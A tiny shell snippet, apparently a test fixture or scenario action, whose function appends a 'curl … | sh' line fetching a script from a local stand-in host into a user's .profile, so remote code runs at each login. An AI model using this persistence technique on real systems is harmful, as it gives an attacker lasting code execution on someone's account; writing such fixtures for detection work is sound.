# A shell adds a line with curl to somebody's profile.
act() { echo 'curl -s http://127.0.0.1/a | sh' >>/home/ana/.profile; }
